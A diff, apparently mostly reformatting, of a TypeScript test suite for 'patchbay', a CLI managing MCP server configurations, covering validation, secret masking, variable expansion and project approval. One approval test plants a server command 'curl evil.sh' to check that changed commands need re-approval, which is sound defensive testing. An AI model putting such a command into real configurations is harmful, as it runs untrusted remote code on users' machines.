@@ -24,7 +24,9 @@ describe('add, list, get, remove', () => {
     expect(added.stderr).toContain('Added http server notion');
     const config = await readJson(sandbox.userConfig);
     expect(config).toEqual({
-      projects: { [sandbox.project]: { mcpServers: { notion: { type: 'http', url: 'https://mcp.notion.com/mcp' } } } },
+      projects: {
+        [sandbox.project]: { mcpServers: { notion: { type: 'http', url: 'https://mcp.notion.com/mcp' } } },
+      },
     });
     expect((await stat(sandbox.userConfig)).mode & 0o777).toBe(0o600);
 
@@ -32,7 +34,14 @@ describe('add, list, get, remove', () => {
     expect(list.code).toBe(0);
     const views = JSON.parse(list.stdout) as Array<Record<string, unknown>>;
     expect(views).toHaveLength(1);
-    expect(views[0]).toMatchObject({ name: 'notion', scope: 'local', transport: 'http', url: 'https://mcp.notion.com/mcp', status: 'unchecked', reason: null });
+    expect(views[0]).toMatchObject({
+      name: 'notion',
+      scope: 'local',
+      transport: 'http',
+      url: 'https://mcp.notion.com/mcp',
+      status: 'unchecked',
+      reason: null,
+    });
   });
 
   it('a URL without -t is http, never stdio; a non-URL without "--" is refused', async () => {
@@ -42,20 +51,54 @@ describe('add, list, get, remove', () => {
     expect(refused.stderr).toContain('patchbay add x -- npx');
     const sse = await sandbox.run(['add', '-t', 'sse', 'legacy', 'https://example.com/sse']);
     expect(sse.code).toBe(0);
-    const stdio = await sandbox.run(['add', '-e', 'A=1', '-e', 'B=x,y=z', 'files', '--', 'npx', '-y', 'server', '--flag']);
+    const stdio = await sandbox.run([
+      'add',
+      '-e',
+      'A=1',
+      '-e',
+      'B=x,y=z',
+      'files',
+      '--',
+      'npx',
+      '-y',
+      'server',
+      '--flag',
+    ]);
     expect(stdio.code).toBe(0);
     const config = await readJson(sandbox.userConfig);
-    const servers = (config.projects as Record<string, { mcpServers: Record<string, unknown> }>)[sandbox.project]!.mcpServers;
+    const servers = (config.projects as Record<string, { mcpServers: Record<string, unknown> }>)[
+      sandbox.project
+    ]!.mcpServers;
     expect(servers.legacy).toEqual({ type: 'sse', url: 'https://example.com/sse' });
-    expect(servers.files).toEqual({ type: 'stdio', command: 'npx', args: ['-y', 'server', '--flag'], env: { A: '1', B: 'x,y=z' } });
+    expect(servers.files).toEqual({
+      type: 'stdio',
+      command: 'npx',
+      args: ['-y', 'server', '--flag'],
+      env: { A: '1', B: 'x,y=z' },
+    });
   });
 
-  it('writes .mcp.json in exactly Claude Code\'s format and preserves unknown keys and entries', async () => {
+  it("writes .mcp.json in exactly Claude Code's format and preserves unknown keys and entries", async () => {
     await writeFile(
       sandbox.projectConfig,
-      JSON.stringify({ mcpServers: { existing: { command: 'node', args: ['x.js'], customKey: { keep: true } } }, otherTool: [1, 2] }, null, 4),
+      JSON.stringify(
+        {
+          mcpServers: { existing: { command: 'node', args: ['x.js'], customKey: { keep: true } } },
+          otherTool: [1, 2],
+        },
+        null,
+        4,
+      ),
     );
-    const added = await sandbox.run(['add', '-s', 'project', '-H', 'X-Api-Key: ${API_KEY}', 'api', 'https://api.example.com/mcp']);
+    const added = await sandbox.run([
+      'add',
+      '-s',
+      'project',
+      '-H',
+      'X-Api-Key: ${API_KEY}',
+      'api',
+      'https://api.example.com/mcp',
+    ]);
     expect(added.code).toBe(0);
     const text = await readFile(sandbox.projectConfig, 'utf8');
     expect(text).toContain('\n    "mcpServers"'); // the file's own indentation is kept
@@ -84,7 +127,10 @@ describe('add, list, get, remove', () => {
     await sandbox.run(['add', '-s', 'user', 'svc', 'https://user.example.com/mcp']);
     await sandbox.run(['add', '-s', 'project', 'svc', 'https://project.example.com/mcp']);
     await sandbox.run(['add', '-s', 'local', 'svc', 'https://local.example.com/mcp']);
-    const got = JSON.parse((await sandbox.run(['get', 'svc', '--no-check', '--json'])).stdout) as Record<string, unknown>;
+    const got = JSON.parse((await sandbox.run(['get', 'svc', '--no-check', '--json'])).stdout) as Record<
+      string,
+      unknown
+    >;
     expect(got.scope).toBe('local');
     expect(got.url).toBe('https://local.example.com/mcp');
     expect((got.shadows as Array<{ scope: string }>).map((s) => s.scope)).toEqual(['project', 'user']);
@@ -93,7 +139,10 @@ describe('add, list, get, remove', () => {
     expect(removed.stderr).toContain('several scopes');
     expect(removed.stderr).toContain('patchbay remove svc -s local');
     expect((await sandbox.run(['remove', 'svc', '-s', 'local'])).code).toBe(0);
-    const after = JSON.parse((await sandbox.run(['get', 'svc', '--no-check', '--json'])).stdout) as Record<string, unknown>;
+    const after = JSON.parse((await sandbox.run(['get', 'svc', '--no-check', '--json'])).stdout) as Record<
+      string,
+      unknown
+    >;
     expect(after.scope).toBe('project');
   });
 
@@ -112,8 +161,15 @@ describe('add, list, get, remove', () => {
       const added = await sandbox.run(['add', name, `https://${name.replace(/_/g, 'x')}.example.com/mcp`]);
       expect(added.code, added.stderr).toBe(0);
     }
-    const list = JSON.parse((await sandbox.run(['list', '--no-check', '--json'])).stdout) as Array<{ name: string }>;
-    expect(list.map((view) => view.name).sort()).toEqual(['__proto__', 'constructor', 'hasOwnProperty', 'toString']);
+    const list = JSON.parse((await sandbox.run(['list', '--no-check', '--json'])).stdout) as Array<{
+      name: string;
+    }>;
+    expect(list.map((view) => view.name).sort()).toEqual([
+      '__proto__',
+      'constructor',
+      'hasOwnProperty',
+      'toString',
+    ]);
     expect((await sandbox.run(['remove', '__proto__'])).code).toBe(0);
     const config = await readFile(sandbox.userConfig, 'utf8');
     expect(config).not.toContain('__proto__');
@@ -128,15 +184,27 @@ describe('bad input: exit 2 and a message naming the input and the fix', () => {
     ['bad character', ['add', 'my.server', 'https://x.example.com'], 'contains "."'],
     ['relative URL', ['add', 'a', 'example.com/mcp'], 'is not a URL'],
     ['ftp URL', ['add', 'a', 'ftp://example.com/'], 'ftp: is not supported'],
-    ['header without colon', ['add', '-H', 'Authorization Bearer x', 'a', 'https://x.example.com'], 'expected "Name: value"'],
-    ['header with bad name', ['add', '-H', 'Bad Name: x', 'a', 'https://x.example.com'], 'is not an HTTP token'],
+    [
+      'header without colon',
+      ['add', '-H', 'Authorization Bearer x', 'a', 'https://x.example.com'],
+      'expected "Name: value"',
+    ],
+    [
+      'header with bad name',
+      ['add', '-H', 'Bad Name: x', 'a', 'https://x.example.com'],
+      'is not an HTTP token',
+    ],
     ['env without =', ['add', '-e', 'NOVALUE', 'a', '--', 'cmd'], 'expected KEY=value'],
     ['env on a URL', ['add', '-e', 'A=1', 'a', 'https://x.example.com'], 'applies to stdio'],
     ['header on stdio', ['add', '-H', 'A: b', 'a', '--', 'cmd'], 'applies to http and sse'],
     ['bad scope', ['add', '-s', 'global', 'a', 'https://x.example.com'], 'expected local, project or user'],
     ['bad transport', ['add', '-t', 'ws', 'a', 'https://x.example.com'], 'Allowed choices'],
     ['URL with -t stdio after --', ['add', '-t', 'http', 'a', '--', 'cmd'], 'takes a URL'],
-    ['bad callback port', ['add', '--callback-port', '70000', 'a', 'https://x.example.com'], '--callback-port'],
+    [
+      'bad callback port',
+      ['add', '--callback-port', '70000', 'a', 'https://x.example.com'],
+      '--callback-port',
+    ],
     ['bad add-json', ['add-json', 'a', '{"type":"http"'], '<json>:1:'],
     ['add-json wrong shape', ['add-json', 'a', '{"type":"http","url":42}'], 'url: expected a URL string'],
   ];
@@ -164,20 +232,55 @@ describe('bad input: exit 2 and a message naming the input and the fix', () => {
   });
 
   it('a literal secret in the project scope draws a warning suggesting ${VAR}', async () => {
-    const result = await sandbox.run(['add', '-s', 'project', '-H', 'Authorization: Bearer sk-live-123', 'a', 'https://x.example.com/mcp']);
+    const result = await sandbox.run([
+      'add',
+      '-s',
+      'project',
+      '-H',
+      'Authorization: Bearer sk-live-123',
+      'a',
+      'https://x.example.com/mcp',
+    ]);
     expect(result.code).toBe(0);
     expect(result.stderr).toContain('holds a literal secret');
     expect(result.stderr).toContain('${');
     expect(result.stderr).not.toContain('sk-live-123');
-    const templated = await sandbox.run(['add', '-s', 'project', '-H', 'Authorization: Bearer ${TOKEN}', 'b', 'https://x.example.com/mcp']);
+    const templated = await sandbox.run([
+      'add',
+      '-s',
+      'project',
+      '-H',
+      'Authorization: Bearer ${TOKEN}',
+      'b',
+      'https://x.example.com/mcp',
+    ]);
     expect(templated.stderr).not.toContain('literal secret');
   });
 });
 
 describe('secrets are masked everywhere unless --show-secrets', () => {
   beforeEach(async () => {
-    await sandbox.run(['add', '-H', 'Authorization: Bearer sk-secret-value', '-H', 'X-Team: blue', 'a', 'https://user:hunter2@x.example.com/mcp?api_key=abc123&region=eu']);
-    await sandbox.run(['add', '-e', 'GITHUB_TOKEN=ghp_secret', '-e', 'DEBUG=1', 'b', '--', 'server', '--api-key', 'k-secret']);
+    await sandbox.run([
+      'add',
+      '-H',
+      'Authorization: Bearer sk-secret-value',
+      '-H',
+      'X-Team: blue',
+      'a',
+      'https://user:hunter2@x.example.com/mcp?api_key=abc123&region=eu',
+    ]);
+    await sandbox.run([
+      'add',
+      '-e',
+      'GITHUB_TOKEN=ghp_secret',
+      '-e',
+      'DEBUG=1',
+      'b',
+      '--',
+      'server',
+      '--api-key',
+      'k-secret',
+    ]);
   });
 
   it('in list and get, human and --json', async () => {
@@ -191,7 +294,8 @@ describe('secrets are masked everywhere unless --show-secrets', () => {
     ]);
     for (const output of outputs) {
       const text = output.stdout + output.stderr;
-      for (const secret of ['sk-secret-value', 'hunter2', 'abc123', 'ghp_secret', 'k-secret']) expect(text).not.toContain(secret);
+      for (const secret of ['sk-secret-value', 'hunter2', 'abc123', 'ghp_secret', 'k-secret'])
+        expect(text).not.toContain(secret);
     }
     const detail = JSON.parse(outputs[3]!.stdout) as { headers: Record<string, string>; url: string };
     expect(detail.headers).toEqual({ Authorization: 'Bearer ****', 'X-Team': 'blue' });
@@ -207,12 +311,26 @@ describe('secrets are masked everywhere unless --show-secrets', () => {
   });
 });
 
+interface ResolvedView {
+  url: string;
+  headers: Record<string, string>;
+  resolved: { url: string; headers: Record<string, string> };
+}
+
 describe('${VAR} expansion', () => {
   it('shows the template, --resolved the masked value, and an unset variable fails that server only', async () => {
-    await sandbox.run(['add', '-H', 'Authorization: Bearer ${MY_TOKEN}', 'a', 'https://${HOST:-x.example.com}/mcp']);
+    await sandbox.run([
+      'add',
+      '-H',
+      'Authorization: Bearer ${MY_TOKEN}',
+      'a',
+      'https://${HOST:-x.example.com}/mcp',
+    ]);
     await sandbox.run(['add', 'b', 'https://b.example.com/mcp']);
     const env = { MY_TOKEN: 'tok-123' };
-    const got = JSON.parse((await sandbox.run(['get', 'a', '--no-check', '--json', '--resolved'], { env })).stdout) as Record<string, any>;
+    const got = JSON.parse(
+      (await sandbox.run(['get', 'a', '--no-check', '--json', '--resolved'], { env })).stdout,
+    ) as ResolvedView;
     expect(got.url).toBe('https://${HOST:-x.example.com}/mcp');
     expect(got.headers.Authorization).toBe('Bearer ${MY_TOKEN}');
     expect(got.resolved.url).toBe('https://x.example.com/mcp');
@@ -228,14 +346,19 @@ describe('${VAR} expansion', () => {
 
   it('the default also applies when the variable is empty (POSIX :-)', async () => {
     await sandbox.run(['add', 'a', 'https://${HOST:-fallback.example.com}/mcp']);
-    const got = JSON.parse((await sandbox.run(['get', 'a', '--no-check', '--json', '--resolved'], { env: { HOST: '' } })).stdout) as Record<string, any>;
+    const got = JSON.parse(
+      (await sandbox.run(['get', 'a', '--no-check', '--json', '--resolved'], { env: { HOST: '' } })).stdout,
+    ) as ResolvedView;
     expect(got.resolved.url).toBe('https://fallback.example.com/mcp');
   });
 });
 
 describe('project approval', () => {
   it('a server from a cloned .mcp.json is pending until approved, and pending again when it changes', async () => {
-    await writeFile(sandbox.projectConfig, JSON.stringify({ mcpServers: { tools: { command: 'node', args: ['tools.js'] } } }));
+    await writeFile(
+      sandbox.projectConfig,
+      JSON.stringify({ mcpServers: { tools: { command: 'node', args: ['tools.js'] } } }),
+    );
     let view = JSON.parse((await sandbox.run(['get', 'tools', '--json'])).stdout) as Record<string, string>;
     expect(view.status).toBe('pending-approval');
     const list = await sandbox.run(['list']);
@@ -244,14 +367,20 @@ describe('project approval', () => {
     expect(list.stdout).toContain('patchbay approve tools');
 
     expect((await sandbox.run(['approve', 'tools'])).code).toBe(0);
-    view = JSON.parse((await sandbox.run(['get', 'tools', '--json', '--no-check'])).stdout) as Record<string, string>;
+    view = JSON.parse((await sandbox.run(['get', 'tools', '--json', '--no-check'])).stdout) as Record<
+      string,
+      string
+    >;
     expect(view.status).toBe('unchecked');
     // Approvals live in the user's config, never in the project.
     expect(await readFile(sandbox.projectConfig, 'utf8')).not.toContain('approved');
     expect(await readFile(sandbox.userConfig, 'utf8')).toContain('approved');
 
     // A cloned repo swaps the command: pending again.
-    await writeFile(sandbox.projectConfig, JSON.stringify({ mcpServers: { tools: { command: 'curl', args: ['evil.sh'] } } }));
+    await writeFile(
+      sandbox.projectConfig,
+      JSON.stringify({ mcpServers: { tools: { command: 'curl', args: ['evil.sh'] } } }),
+    );
     view = JSON.parse((await sandbox.run(['get', 'tools', '--json'])).stdout) as Record<string, string>;
     expect(view.status).toBe('pending-approval');
 
@@ -263,7 +392,10 @@ describe('project approval', () => {
     view = JSON.parse((await sandbox.run(['get', 'tools', '--json'])).stdout) as Record<string, string>;
     expect(view.status).toBe('pending-approval');
     expect((await sandbox.run(['approve', '--all'])).code).toBe(0);
-    view = JSON.parse((await sandbox.run(['get', 'tools', '--json', '--no-check'])).stdout) as Record<string, string>;
+    view = JSON.parse((await sandbox.run(['get', 'tools', '--json', '--no-check'])).stdout) as Record<
+      string,
+      string
+    >;
     expect(view.status).toBe('unchecked');
   });
 
@@ -279,7 +411,8 @@ describe('help and exit codes', () => {
   it('documents the exit codes', async () => {
     const result = await sandbox.run(['help', 'exit-codes']);
     expect(result.code).toBe(0);
-    for (const code of ['0', '1', '2', '4', '8']) expect(result.stdout).toMatch(new RegExp(`^\\s+${code}\\s`, 'm'));
+    for (const code of ['0', '1', '2', '4', '8'])
+      expect(result.stdout).toMatch(new RegExp(`^\\s+${code}\\s`, 'm'));
   });
 
   it('--help has examples; unknown commands exit 2', async () => {
